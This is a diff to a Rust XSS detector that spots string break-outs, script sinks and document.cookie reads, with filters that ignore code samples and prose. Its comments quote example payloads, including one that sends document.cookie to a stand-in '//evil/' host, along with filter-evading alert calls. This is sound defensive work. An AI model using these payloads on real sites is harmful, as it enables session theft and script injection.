@@ -7,12 +7,29 @@
 /// How many quote positions are tried as break-out points.
 const MAX_QUOTES: usize = 32;
 
+/// Identifier bytes: bit 0 may start one (`A-Za-z_$`), bit 1 may continue one (and digits).
+/// A table lookup, as the identifier scans run over every byte of code-like values.
+static IDENT: [u8; 256] = {
+    let mut t = [0u8; 256];
+    let mut c = 0;
+    while c < 256 {
+        let b = c as u8;
+        if b.is_ascii_alphabetic() || b == b'_' || b == b'$' {
+            t[c] = 3;
+        } else if b.is_ascii_digit() {
+            t[c] = 2;
+        }
+        c += 1;
+    }
+    t
+};
+
 fn is_ident_start(b: u8) -> bool {
-    b.is_ascii_alphabetic() || b == b'_' || b == b'$'
+    IDENT[usize::from(b)] & 1 != 0
 }
 
 fn is_ident(b: u8) -> bool {
-    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
+    IDENT[usize::from(b)] & 2 != 0
 }
 
 /// Globals and members through which injected script acts. These are the browser's API, the
@@ -73,6 +90,11 @@ fn sink(name: &[u8]) -> bool {
             | b"reflect"
             | b"jquery"
     )
+}
+
+/// Whether `word` names a sink the injected code could reach (`alert`, `eval`, `document`…).
+pub(super) fn names_sink(word: &[u8]) -> bool {
+    direct_sink(word) || sink(word)
 }
 
 /// Sinks that may be called directly at the start of a value (no member access needed).
@@ -252,20 +274,36 @@ fn skip_ws(b: &[u8], mut i: usize) -> usize {
 /// then a call or assignment through a script sink.
 pub fn string_breakout(s: &str) -> bool {
     let b = s.as_bytes();
-    // whether any window can mention a direct sink, decided once for the whole value
-    let any_direct_sink = names_direct_sink(b);
-    let reads_cookie = memchr::memchr_iter(b'.', b).any(|p| {
-        p >= 8
-            && b[p - 8..].len() >= 15
-            && b[p - 8..p - 8 + 15].eq_ignore_ascii_case(b"document.cookie")
-    });
-    let delimiters = attribute_delimiters(b);
+    // where direct sinks and cookie reads start, found once for the whole value (when a
+    // first window needs them) so that only the windows holding one are examined
+    let mut sinks: Option<Marks> = None;
+    let mut cookies: Option<Marks> = None;
+    let mut delimiters = [0usize; MAX_DELIMITERS];
+    let n_delimiters = attribute_delimiters(b, &mut delimiters);
+    let delimiters = &delimiters[..n_delimiters];
     let mut tried = 0;
+    // quotes of each kind (`'`, `"`, backtick) seen so far
+    let mut seen = [0usize; 3];
     let mut i = 0;
     while i < b.len() && tried < MAX_QUOTES {
-        let c = b[i];
-        i += 1;
-        if !matches!(c, b'\'' | b'"' | b'`') || delimiters.binary_search(&(i - 1)).is_ok() {
+        let Some(q) = memchr::memchr3(b'\'', b'"', b'`', &b[i..]) else {
+            break;
+        };
+        i += q + 1;
+        if delimiters.binary_search(&(i - 1)).is_ok() {
+            continue;
+        }
+        // Reflected inside a string, the value's first quote of that kind ends the page's
+        // string, the second opens a new one, and so on: only odd-numbered quotes lead into
+        // code. After an even one (`['one,two']):`, `f("a", "b")`) the text is back inside
+        // a string, as in code samples whose quotes pair up.
+        let k = match b[i - 1] {
+            b'\'' => 0,
+            b'"' => 1,
+            _ => 2,
+        };
+        seen[k] += 1;
+        if seen[k] % 2 == 0 {
             continue;
         }
         tried += 1;
@@ -292,16 +330,23 @@ pub fn string_breakout(s: &str) -> bool {
         if !saw_sep {
             continue;
         }
-        let window = &b[j..b.len().min(j + 256)];
-        if any_direct_sink && code_mentions_sink(window) {
+        let wend = b.len().min(j + 256);
+        let window = &b[j..wend];
+        if sinks
+            .get_or_insert_with(|| Marks::new(b, direct_sink_starts))
+            .any_in(j, wend)
+            && code_mentions_sink(window)
+        {
             return true;
         }
         // exfiltration: the cookie read into injected code (`'+document.cookie+'`)
-        if reads_cookie
-            && window.len() >= 15
+        if cookies
+            .get_or_insert_with(|| Marks::new(b, cookie_reads))
+            .any_in(j, wend.saturating_sub(COOKIE.len() - 1))
+            && window.len() >= COOKIE.len()
             && window
-                .windows(15)
-                .any(|w| w.eq_ignore_ascii_case(b"document.cookie"))
+                .windows(COOKIE.len())
+                .any(|w| w.eq_ignore_ascii_case(COOKIE))
         {
             return true;
         }
@@ -323,18 +368,100 @@ pub fn string_breakout(s: &str) -> bool {
 /// Most attribute-value quotes remembered per value.
 const MAX_DELIMITERS: usize = 256;
 
+/// The cookie read that exfiltration payloads splice into code.
+const COOKIE: &[u8] = b"document.cookie";
+
+/// Most positions a [`Marks`] remembers; past that every window is examined.
+const MAX_MARKS: usize = 64;
+
+/// Start positions of something a window test looks for, found in one pass over the value,
+/// so the test runs only on windows that hold one. With more than [`MAX_MARKS`] the marks
+/// say "maybe" everywhere and the window test decides, as it would without them.
+struct Marks {
+    at: [usize; MAX_MARKS],
+    len: usize,
+    overflow: bool,
+}
+
+impl Marks {
+    fn new(b: &[u8], find: fn(&[u8], &mut Marks)) -> Marks {
+        let mut m = Marks {
+            at: [0; MAX_MARKS],
+            len: 0,
+            overflow: false,
+        };
+        find(b, &mut m);
+        m
+    }
+
+    /// Record `p`; false once full (the finder may stop).
+    fn push(&mut self, p: usize) -> bool {
+        if self.len == MAX_MARKS {
+            self.overflow = true;
+            return false;
+        }
+        self.at[self.len] = p;
+        self.len += 1;
+        true
+    }
+
+    /// Whether a mark starts in `from..to` (or there were too many to remember).
+    fn any_in(&self, from: usize, to: usize) -> bool {
+        self.overflow || self.at[..self.len].iter().any(|&p| p >= from && p < to)
+    }
+}
+
+/// Identifiers that [`code_mentions_sink`] would read as a direct sink: a run of identifier
+/// bytes that does not continue one (`9alert` is one token, not `alert`). A window that
+/// starts at a token boundary holds such a run only if one starts inside it; a run cut by
+/// the window's end has nothing after it and cannot complete a call.
+fn direct_sink_starts(b: &[u8], m: &mut Marks) {
+    let mut i = 0;
+    while i < b.len() {
+        if !is_ident_start(b[i]) || (i > 0 && is_ident(b[i - 1])) {
+            i += 1;
+            continue;
+        }
+        let st = i;
+        while i < b.len() && is_ident(b[i]) {
+            i += 1;
+        }
+        if direct_sink(&b[st..i]) && !m.push(st) {
+            return;
+        }
+    }
+}
+
+/// Where `document.cookie` (any case) starts.
+fn cookie_reads(b: &[u8], m: &mut Marks) {
+    for p in memchr::memchr_iter(b'.', b) {
+        if p >= 8
+            && b.len() - (p - 8) >= COOKIE.len()
+            && b[p - 8..p - 8 + COOKIE.len()].eq_ignore_ascii_case(COOKIE)
+            && !m.push(p - 8)
+        {
+            return;
+        }
+    }
+}
+
 /// Positions of quotes that open or close an attribute value inside a tag that the value
 /// itself opens (`<a title="open">`): in well-formed markup those quotes delimit HTML, they
 /// cannot end a JavaScript string. A break-out from an attribute (`x" onclick=…`) starts
 /// outside any tag of the value and is not affected.
-fn attribute_delimiters(b: &[u8]) -> Vec<usize> {
-    let mut out = Vec::new();
+fn attribute_delimiters(b: &[u8], out: &mut [usize; MAX_DELIMITERS]) -> usize {
+    let mut n = 0;
     if memchr::memchr(b'<', b).is_none() {
-        return out;
+        return 0;
     }
     let mut i = 0;
     let mut in_tag = false;
-    while i < b.len() && out.len() < MAX_DELIMITERS {
+    while i < b.len() && n < MAX_DELIMITERS {
+        // only `<`, `=` and `>` change anything below: jump to the next one
+        match memchr::memchr3(b'<', b'=', b'>', &b[i..]) {
+            Some(p) => i += p,
+            None => break,
+        }
         match b[i] {
             b'<' if b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) => in_tag = true,
             b'>' => in_tag = false,
@@ -349,8 +476,9 @@ fn attribute_delimiters(b: &[u8]) -> Vec<usize> {
                         i = close + 1;
                         continue;
                     }
-                    out.push(j);
-                    out.push(close);
+                    out[n] = j;
+                    out[n + 1] = close;
+                    n += 2;
                     i = close + 1;
                     continue;
                 }
@@ -359,7 +487,7 @@ fn attribute_delimiters(b: &[u8]) -> Vec<usize> {
         }
         i += 1;
     }
-    out
+    n
 }
 
 /// Arguments after a direct sink's name (`args` starts at `(`) that make the "call" run
@@ -374,11 +502,255 @@ fn inert_call_args(name: &[u8], args: &[u8]) -> bool {
             matches!(args.get(a), Some(b'\'' | b'"' | b'`')) && args[a + 1..].starts_with(b"node:");
         return empty || builtin;
     }
-    let mut k = a;
-    while k < args.len() && is_ident(args[k]) && k - a < 40 {
+    api_reference_args(args)
+}
+
+/// Bytes of an argument list searched for API-reference notation.
+const MAX_ARGS_SCAN: usize = 160;
+
+/// API-reference notation for optional parameters anywhere in the argument list before its
+/// `)`: `(callback[, delay])`, `(callback, delay[, ...args])`. `name[` followed by `,` is
+/// not JavaScript (a member access needs an expression), so the "call" is documentation.
+/// `args` starts at `(`.
+fn api_reference_args(args: &[u8]) -> bool {
+    let end = args.len().min(MAX_ARGS_SCAN);
+    let mut k = 1;
+    while k < end {
+        match args[k] {
+            b')' => return false,
+            b'[' if is_ident(args[k - 1]) && args.get(skip_ws(args, k + 1)) == Some(&b',') => {
+                return true;
+            }
+            _ => {}
+        }
         k += 1;
     }
-    k > a && args.get(k) == Some(&b'[') && args.get(skip_ws(args, k + 1)) == Some(&b',')
+    false
+}
+
+/// Bytes scanned around a call when deciding whether it sits in a function body.
+const MAX_BODY_SCAN: usize = 512;
+
+/// Whether the call at `st` sits in the body of a function literal (`function(){…}`,
+/// `() => {…}`) that the code defines but does not invoke: `_.defer(function(){ alert('x');
+/// })`, `onClick: function(){ alert(…) }`. Such code hands a callback to someone else, as
+/// documentation samples do; a payload runs its call directly or invokes the function it
+/// builds (`(function(){…})()`, `function(){…}()`, `….call(…)`), which stays a call.
+fn in_uninvoked_function(b: &[u8], st: usize) -> bool {
+    let lo = st.saturating_sub(MAX_BODY_SCAN);
+    let mut depth = 0usize;
+    let mut k = st;
+    let open = loop {
+        if k <= lo {
+            return false;
+        }
+        k -= 1;
+        match b[k] {
+            b'}' => depth += 1,
+            b'{' if depth == 0 => break k,
+            b'{' => depth -= 1,
+            _ => {}
+        }
+    };
+    let Some(head) = function_head(&b[lo..open]) else {
+        return false;
+    };
+    if passed_to_invoker(b, lo + head) {
+        return false;
+    }
+    let hi = b.len().min(open + 2 * MAX_BODY_SCAN);
+    let mut depth = 0usize;
+    let mut close = None;
+    for (p, &c) in b[open..hi].iter().enumerate() {
+        match c {
+            b'{' => depth += 1,
+            b'}' => {
+                depth -= 1;
+                if depth == 0 {
+                    close = Some(open + p);
+                    break;
+                }
+            }
+            _ => {}
+        }
+    }
+    // an unterminated body may be invoked beyond what we see
+    let Some(close) = close else {
+        return false;
+    };
+    let mut j = skip_ws(b, close + 1);
+    if b.get(j) == Some(&b')') {
+        j = skip_ws(b, j + 1);
+    }
+    !matches!(b.get(j), Some(b'(' | b'`' | b'.'))
+}
+
+/// Where the function literal starts whose head `before` (the code up to a `{`) ends with:
+/// `function(…)`, `function name(…)` or an arrow `(…) =>` / `x =>`. `None` for other blocks.
+fn function_head(before: &[u8]) -> Option<usize> {
+    let last = before.iter().rposition(|c| !c.is_ascii_whitespace())?;
+    if before[last] == b'>' {
+        if last == 0 || before[last - 1] != b'=' {
+            return None;
+        }
+        return Some(arrow_params_start(&before[..last - 1]));
+    }
+    if before[last] != b')' {
+        return None;
+    }
+    // the matching `(` of the parameter list (parameters hold no parentheses we need)
+    let paren = before[..last]
+        .iter()
+        .rposition(|&c| c == b'(' || c == b')')?;
+    if before[paren] != b'(' {
+        return None;
+    }
+    let mut e = paren;
+    while e > 0 && before[e - 1].is_ascii_whitespace() {
+        e -= 1;
+    }
+    let mut s = e;
+    while s > 0 && is_ident(before[s - 1]) && e - s < 40 {
+        s -= 1;
+    }
+    if &before[s..e] == b"function" {
+        return Some(s);
+    }
+    // `function name(…)`
+    let mut e2 = s;
+    while e2 > 0 && before[e2 - 1].is_ascii_whitespace() {
+        e2 -= 1;
+    }
+    (e2 >= 8 && e2 < s && &before[e2 - 8..e2] == b"function").then(|| e2 - 8)
+}
+
+/// Start of an arrow function's parameters, given the code up to its `=>`: `(a, b)` or `a`.
+fn arrow_params_start(before: &[u8]) -> usize {
+    let Some(last) = before.iter().rposition(|c| !c.is_ascii_whitespace()) else {
+        return 0;
+    };
+    if before[last] == b')' {
+        return before[..last].iter().rposition(|&c| c == b'(').unwrap_or(0);
+    }
+    let mut s = last + 1;
+    while s > 0 && is_ident(before[s - 1]) {
+        s -= 1;
+    }
+    s
+}
+
+/// Array and function methods that call the function they are given right away
+/// (`[1].map(function(){…})`, `[1].find(x => alert(x))`, `f.call(…)`).
+fn invokes_argument(name: &[u8]) -> bool {
+    matches!(
+        name,
+        b"map"
+            | b"forEach"
+            | b"find"
+            | b"findIndex"
+            | b"findLast"
+            | b"filter"
+            | b"some"
+            | b"every"
+            | b"reduce"
+            | b"reduceRight"
+            | b"sort"
+            | b"flatMap"
+            | b"call"
+            | b"apply"
+            | b"from"
+            | b"replace"
+            | b"Promise"
+    )
+}
+
+/// Bytes scanned back from a function literal for the call it is an argument of.
+const MAX_CALLEE_SCAN: usize = 256;
+
+/// Whether the function literal starting at `start` is an argument of a call that invokes
+/// it (see [`invokes_argument`]).
+fn passed_to_invoker(b: &[u8], start: usize) -> bool {
+    let lo = start.saturating_sub(MAX_CALLEE_SCAN);
+    let mut depth = 0usize;
+    let mut k = start;
+    // the `(` of the argument list the literal is in
+    let open = loop {
+        if k <= lo {
+            return false;
+        }
+        k -= 1;
+        match b[k] {
+            b')' | b']' | b'}' => depth += 1,
+            b'(' if depth == 0 => break k,
+            b'[' | b'{' if depth == 0 => return false,
+            b'(' | b'[' | b'{' => depth -= 1,
+            _ => {}
+        }
+    };
+    let mut e = open;
+    while e > 0 && b[e - 1].is_ascii_whitespace() {
+        e -= 1;
+    }
+    let mut s = e;
+    while s > 0 && is_ident(b[s - 1]) && e - s < 16 {
+        s -= 1;
+    }
+    invokes_argument(&b[s..e])
+}
+
+/// Elements whose text content documentation uses to show code, not to run it.
+fn code_sample_element(name: &[u8]) -> bool {
+    ["code", "pre", "kbd", "samp", "tt", "var"]
+        .iter()
+        .any(|n| name.eq_ignore_ascii_case(n.as_bytes()))
+}
+
+/// Bytes scanned back from a call for the element it sits in.
+const MAX_TEXT_SCAN: usize = 1024;
+
+/// Whether the call at `st` is text content of a code-sample element the value opens
+/// (`<code>atob(data)</code>`, `<pre>_.defer(function(){ alert('x'); })</pre>`): markup
+/// renders that text, nothing runs it. A call inside a tag (an attribute) is not text.
+fn in_code_sample_text(b: &[u8], st: usize) -> bool {
+    let lo = st.saturating_sub(MAX_TEXT_SCAN);
+    let mut k = st;
+    while k > lo {
+        k -= 1;
+        if b[k] == b'>' {
+            // the last tag before the call is closed: the call is text; look further back
+            // for the element around it
+            break;
+        }
+        if b[k] == b'<' {
+            return false;
+        }
+    }
+    let mut open_depth = 0usize;
+    let mut p = st;
+    while p > lo {
+        p -= 1;
+        if b[p] != b'<' {
+            continue;
+        }
+        let end_tag = b.get(p + 1) == Some(&b'/');
+        let ns = p + 1 + usize::from(end_tag);
+        let mut ne = ns;
+        // the names compared are at most 4 bytes: read no more than a few
+        while ne < st && ne - ns < 8 && b[ne].is_ascii_alphanumeric() {
+            ne += 1;
+        }
+        if !code_sample_element(&b[ns..ne]) {
+            continue;
+        }
+        if end_tag {
+            open_depth += 1;
+        } else if open_depth == 0 {
+            return true;
+        } else {
+            open_depth -= 1;
+        }
+    }
+    false
 }
 
 /// Whether some identifier of `b` is a direct sink's name (`alert`, `eval`, `import`…): one
@@ -402,9 +774,15 @@ fn names_direct_sink(b: &[u8]) -> bool {
     false
 }
 
+/// Sink mentions per value whose surroundings (code element, uncalled function) are
+/// examined; past that a mention counts as it stands, which bounds the work on a value
+/// crafted with thousands of them.
+const MAX_CONTEXT_CHECKS: usize = 64;
+
 /// Code that calls a direct sink (`alert(`, ``alert`1` ``) or passes one around as a value
 /// (`a=eval;`, `(alert)`, `x=alert,`): the usual way payloads dodge `alert(` filters.
 fn code_mentions_sink(b: &[u8]) -> bool {
+    let mut context_checks = 0;
     let mut i = 0;
     while i < b.len() {
         if !is_ident_start(b[i]) || (i > 0 && is_ident(b[i - 1])) {
@@ -439,6 +817,21 @@ fn code_mentions_sink(b: &[u8]) -> bool {
         if next == Some(b'(') && inert_call_args(&b[st..i], &b[i..]) {
             continue;
         }
+        // code shown in a code element runs nowhere, whatever it does with the sink; each
+        // such look-around scans a bounded window, and only so many are made per value
+        if context_checks < MAX_CONTEXT_CHECKS {
+            context_checks += 1;
+            if in_code_sample_text(b, st) {
+                continue;
+            }
+            if matches!(next, Some(b'(' | b'`')) && in_uninvoked_function(b, st) {
+                continue;
+            }
+        }
+        // optional call `alert?.(1)`
+        if next == Some(b'?') && b[i..].starts_with(b"?.(") {
+            return true;
+        }
         if matches!(next, Some(b'(' | b'`')) {
             return true;
         }
@@ -471,20 +864,50 @@ fn code_mentions_sink(b: &[u8]) -> bool {
 /// The value is itself a script call through a sink: `alert(1)`, `alert`1``,
 /// `document.location='//evil/'+document.cookie`, `top['al'+'ert'](1)`.
 pub fn sink_call(s: &str) -> bool {
-    let t = s.trim_start_matches(|c: char| {
-        c.is_ascii_whitespace()
-            || matches!(c, ';' | '(' | '+' | '-' | '!' | '~' | '*' | '|' | '&' | ',')
-    });
-    let b = t.as_bytes();
+    let t = trim_statement_start(s.as_bytes());
     // `A=alert;A(1)`, `(alert)(1)`, `[1].find(alert)`, `a{b:`…alert(1)…`}`: a sink
     // called, bound or passed in code (the value has code punctuation around it)
-    let code_like = s.bytes().any(|c| matches!(c, b';' | b'{' | b'}' | b'`' | b'[' | b'='))
-        || memchr::memmem::find(s.as_bytes(), b")(").is_some()
+    let code_like = code_punctuation(s.as_bytes())
         // `with(location)with(hash)eval(…)`: a call right after a parenthesis
-        || b.windows(2).any(|w| w[0] == b')' && is_ident_start(w[1]));
+        || memchr::memchr_iter(b')', t).any(|p| t.get(p + 1).is_some_and(|&c| is_ident_start(c)));
     if code_like && names_direct_sink(s.as_bytes()) && code_mentions_sink(s.as_bytes()) {
         return true;
     }
+    if statement_acts(t) {
+        return true;
+    }
+    // a later statement of a script the value is (`x=…;document.body.appendChild(x)`)
+    // outside the bodies of functions it defines but never calls, as in code samples
+    // and outside code-element text
+    memchr::memchr_iter(b';', t).take(MAX_STATEMENTS).any(|p| {
+        let stmt = trim_statement_start(&t[p + 1..]);
+        statement_acts(stmt)
+            && !in_uninvoked_function(t, p)
+            && !in_code_sample_text(t, t.len() - stmt.len())
+    })
+}
+
+/// Statements after `;` examined by [`sink_call`].
+const MAX_STATEMENTS: usize = 16;
+
+/// `b` without the spaces and unary or separator punctuation that may precede an expression.
+fn trim_statement_start(b: &[u8]) -> &[u8] {
+    let n = b
+        .iter()
+        .take_while(|&&c| {
+            c.is_ascii_whitespace()
+                || matches!(
+                    c,
+                    b';' | b'(' | b'+' | b'-' | b'!' | b'~' | b'*' | b'|' | b'&' | b','
+                )
+        })
+        .count();
+    &b[n..]
+}
+
+/// Whether the expression at the start of `b` calls or assigns through a sink:
+/// `alert(1)`, `document.location='//x'`, `top['al'+'ert'](1)`.
+fn statement_acts(b: &[u8]) -> bool {
     let Some((any_sink, direct, member, e)) = chain(b, 0) else {
         return false;
     };
@@ -492,6 +915,10 @@ pub fn sink_call(s: &str) -> bool {
         return false;
     }
     let e2 = skip_ws(b, e);
+    if direct && e2 == e && b[e..].starts_with(b"?.(") {
+        // optional call `alert?.(1)`
+        return !prose_call(&b[e + 2..]);
+    }
     let ok_shape = if direct {
         b.get(e2).is_some_and(|&c| c == b'(' || c == b'`')
             && e2 == e
@@ -499,7 +926,149 @@ pub fn sink_call(s: &str) -> bool {
     } else {
         member && !inert_member_call(&b[..e], &b[e2..])
     };
-    ok_shape && call_or_assign(b, e2)
+    ok_shape
+        && call_or_assign(b, e2)
+        && !(b.get(e2) == Some(&b'(') && prose_call(&b[e2..]))
+        && !(b.get(e2) == Some(&b'=') && same_origin_path_literal(&b[e2 + 1..]))
+}
+
+/// Longest path literal examined by [`same_origin_path_literal`].
+const MAX_PATH_LITERAL: usize = 256;
+
+/// Whether `rhs` (what follows `=`) is one string literal holding a same-origin path,
+/// fragment or query and nothing else follows (`location.href = '/login';`): navigating to
+/// the site's own page, as application code does, runs no script. A scheme
+/// (`'javascript:…'`), another host (`'//evil'`), concatenation or markup is not this.
+fn same_origin_path_literal(rhs: &[u8]) -> bool {
+    let a = skip_ws(rhs, 0);
+    let Some(&q @ (b'\'' | b'"' | b'`')) = rhs.get(a) else {
+        return false;
+    };
+    let body = &rhs[a + 1..rhs.len().min(a + 1 + MAX_PATH_LITERAL)];
+    let Some(close) = memchr::memchr(q, body) else {
+        return false;
+    };
+    let lit = &body[..close];
+    let path = match lit {
+        [b'/', b'/' | b'\\', ..] => false,
+        [b'/' | b'#' | b'?', ..] => true,
+        _ => false,
+    };
+    if !path
+        || lit
+            .iter()
+            .any(|&c| matches!(c, b'\\' | b'<' | b'>' | b'$' | b':'))
+    {
+        return false;
+    }
+    let k = skip_ws(rhs, a + 1 + close + 1);
+    matches!(rhs.get(k), None | Some(b';' | b'\n' | b'/'))
+}
+
+/// Code punctuation around a sink: `;`, braces, a backtick, `[`, `=`, or `)(` (one pass).
+fn code_punctuation(b: &[u8]) -> bool {
+    static CODE: [bool; 256] = {
+        let mut t = [false; 256];
+        t[b';' as usize] = true;
+        t[b'{' as usize] = true;
+        t[b'}' as usize] = true;
+        t[b'`' as usize] = true;
+        t[b'[' as usize] = true;
+        t[b'=' as usize] = true;
+        t
+    };
+    b.iter().any(|&c| CODE[usize::from(c)])
+        || memchr::memchr_iter(b')', b).any(|p| b.get(p + 1) == Some(&b'('))
+}
+
+/// Keywords that JavaScript lets stand right before another word (`new Image`, `typeof x`,
+/// `x in y`); any other two words side by side are not code.
+fn joins_words(w: &[u8]) -> bool {
+    matches!(
+        w,
+        b"new"
+            | b"typeof"
+            | b"void"
+            | b"delete"
+            | b"await"
+            | b"yield"
+            | b"in"
+            | b"instanceof"
+            | b"of"
+            | b"function"
+            | b"async"
+            | b"return"
+            | b"throw"
+            | b"var"
+            | b"let"
+            | b"const"
+    )
+}
+
+/// Whether the "call" whose argument list starts at `args[0] == '('` is prose, not code:
+/// two words side by side outside strings (`confirm(your attendance)`), or a word right
+/// after the closing parenthesis on the same line (`eval(expression) evaluates …`).
+/// JavaScript only juxtaposes words around a few keywords, and a payload's call is followed
+/// by an operator, separator, comment or the end.
+fn prose_call(args: &[u8]) -> bool {
+    let end = args.len().min(MAX_ARGS_SCAN);
+    let mut k = 1;
+    let mut depth = 1usize;
+    let mut prev_word: Option<(usize, usize)> = None;
+    while k < end {
+        let c = args[k];
+        if matches!(c, b'\'' | b'"' | b'`') {
+            // skip a string literal; an unterminated one is not prose we can judge
+            match memchr::memchr(c, &args[k + 1..end]) {
+                Some(q) => k += q + 2,
+                None => return false,
+            }
+            prev_word = None;
+            continue;
+        }
+        if is_ident_start(c) {
+            let st = k;
+            while k < end && is_ident(args[k]) {
+                k += 1;
+            }
+            if let Some((ps, pe)) = prev_word {
+                if !joins_words(&args[ps..pe]) && !joins_words(&args[st..k]) {
+                    return true;
+                }
+            }
+            prev_word = Some((st, k));
+            continue;
+        }
+        match c {
+            b' ' | b'\t' => {}
+            b'(' => {
+                depth += 1;
+                prev_word = None;
+            }
+            b')' => {
+                depth -= 1;
+                prev_word = None;
+                if depth == 0 {
+                    let mut j = k + 1;
+                    let at = j;
+                    while j < args.len() && matches!(args[j], b' ' | b'\t') {
+                        j += 1;
+                    }
+                    if j == at || j >= args.len() || !args[j].is_ascii_alphabetic() {
+                        return false;
+                    }
+                    let ws = j;
+                    while j < args.len() && is_ident(args[j]) {
+                        j += 1;
+                    }
+                    return !joins_words(&args[ws..j]);
+                }
+            }
+            _ => prev_word = None,
+        }
+        k += 1;
+    }
+    false
 }
 
 /// Symbols counted before a bracket-only run counts as script.
